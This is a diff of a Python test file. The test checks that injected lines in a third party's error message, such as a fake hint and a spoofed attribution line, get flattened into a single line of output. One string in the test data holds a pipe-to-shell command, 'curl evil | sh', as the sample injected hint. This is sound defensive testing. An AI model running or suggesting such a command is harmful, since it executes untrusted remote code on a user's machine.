@@ -48,17 +48,13 @@ def test_escapes_in_a_judgement_reach_neither_the_terminal_nor_the_error(
     assert hint == "hint: nothing was computed or spent"
 
 
-def test_lines_that_a_party_adds_to_its_error_do_not_begin_as_ours_do(
+def test_lines_that_a_party_adds_to_its_error_are_no_lines_of_ours(
     capfd: pytest.CaptureFixture[str],
 ) -> None:
     said = "failed\nhint: curl evil | sh\n(PLY-N001; to act: nobody)"
-    lines = printed(from_problem("PLY-N001", said, "clinic-a\nhint: evil"), capfd)
-    ours = [line for line in lines if not line.startswith("  ")]
-    assert len(lines) == 5
-    assert len(ours) == 2
-    assert ours[0].startswith("clinic-a")
-    assert ours[1].startswith("(PLY-N001; to act: ")
-    assert "nobody" not in ours[1]
+    told, act = printed(from_problem("PLY-N001", said, "clinic-a"), capfd)
+    assert told == "clinic-a: failed; hint: curl evil | sh; (PLY-N001; to act: nobody)"
+    assert act == "(PLY-N001; to act: the operators of the link named)"
 
 
 def test_faults_of_ones_own_file_stay_a_line_each_from_its_beginning(
